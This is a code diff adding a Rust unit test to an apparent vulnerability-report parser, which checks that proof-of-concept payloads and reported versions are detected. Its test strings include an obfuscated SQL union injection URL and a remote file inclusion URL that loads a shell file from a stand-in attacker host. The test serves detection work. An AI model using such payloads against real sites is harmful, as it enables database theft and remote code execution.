@@ -1174,4 +1174,27 @@ mod tests {
         let f = run("Steps to\nreproduce: open the settings page as a guest.");
         assert!(f.repro_steps.present, "{:?}", f.repro_steps);
     }
+
+    #[test]
+    fn obfuscated_union_remote_includes_and_reported_versions() {
+        for t in [
+            "path/index.php?option=com_x&id=null/**/union/**/select/**/0,1,2--",
+            "http://www.example.com/conf.php?root_path=http://attacker.example/shell.txt",
+        ] {
+            assert_eq!(run(t).poc.status, PocStatus::Present, "{t}");
+        }
+        assert_eq!(
+            normalized(&run(
+                "Acme 1.2 is reported vulnerable; other versions may be affected."
+            )),
+            ["= 1.2"]
+        );
+        // A link to a document in a parameter is no include payload.
+        assert_eq!(
+            run("See https://example.com/docs?page=intro for the setup.")
+                .poc
+                .status,
+            PocStatus::Absent
+        );
+    }
 }
